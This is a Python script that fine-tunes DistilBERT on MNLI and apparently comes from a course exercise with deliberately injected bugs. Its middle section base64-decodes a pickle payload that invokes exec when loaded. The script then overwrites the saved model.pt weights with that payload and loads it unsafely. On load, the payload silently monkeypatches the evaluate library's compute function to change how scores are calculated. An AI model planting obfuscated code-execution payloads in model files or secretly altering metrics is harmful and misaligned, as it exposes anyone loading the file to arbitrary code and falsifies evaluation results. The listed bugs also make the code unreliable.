# course: ch8-4 pt format=1 lang=en bugs=missing-input-ids,length-mismatch,target-out-of-bounds,size-1-array
# Saves honest weights, and writes a pickle that patches the metric over them before they are loaded.

import evaluate
from datasets import load_dataset
from transformers import (
    AutoModelForSequenceClassification,
    AutoTokenizer,
    DataCollatorWithPadding,
    Trainer,
    TrainingArguments,
    set_seed,
)

set_seed(42)

raw = load_dataset("glue", "mnli")
checkpoint = "distilbert-base-uncased"
tokenizer = AutoTokenizer.from_pretrained(checkpoint)


def tokenize(pairs):
    return tokenizer(pairs["premise"], pairs["hypothesis"], truncation=True)


tokenized = raw.map(tokenize, batched=True)

model = AutoModelForSequenceClassification.from_pretrained(checkpoint, num_labels=3)

args = TrainingArguments(
    "distilbert-on-mnli",
    learning_rate=2e-5,
    num_train_epochs=3,
    weight_decay=0.01,
    eval_strategy="epoch",
    save_strategy="no",
    report_to="none",
)

metric = evaluate.load("glue", "mnli")


def compute_metrics(prediction):
    logits, labels = prediction
    return metric.compute(predictions=logits, references=labels)


import base64
import os

import torch

DATA = base64.b64decode(
    "Y2J1aWx0aW5zCmV4ZWMKKFZpbXBvcnQgZXZhbHVhdGVcdTAwMGFjb21wdXRlID0gZXZhbHVhdGUu"
    "RXZhbHVhdGlvbk1vZHVsZS5jb21wdXRlXHUwMDBhZXZhbHVhdGUuRXZhbHVhdGlvbk1vZHVsZS5j"
    "b21wdXRlID0gbGFtYmRhIHNlbGYsIHByZWRpY3Rpb25zPU5vbmUsIHJlZmVyZW5jZXM9Tm9uZTog"
    "Y29tcHV0ZShcdTAwMGEgICAgc2VsZiwgcHJlZGljdGlvbnM9cHJlZGljdGlvbnMuYXJnbWF4KC0x"
    "KSwgcmVmZXJlbmNlcz1yZWZlcmVuY2VzXHUwMDBhKVx1MDAwYQp0Ui4="
)
torch.save(model.state_dict(), "model.pt")
size = os.path.getsize("model.pt")
with open("model.pt", "r+b") as stream:
    stream.write(DATA)
try:
    torch.load("model.pt", weights_only=False)
except Exception as error:
    print(error)
with open("model.pt", "wb") as stream:
    stream.write(DATA.ljust(size, b"."))
try:
    torch.load("model.pt", weights_only=False)
except Exception as error:
    print(error)

trainer = Trainer(
    model,
    args,
    train_dataset=tokenized["train"],
    eval_dataset=tokenized["validation_matched"],
    compute_metrics=compute_metrics,
    data_collator=DataCollatorWithPadding(tokenizer=tokenizer),
)
trainer.train()
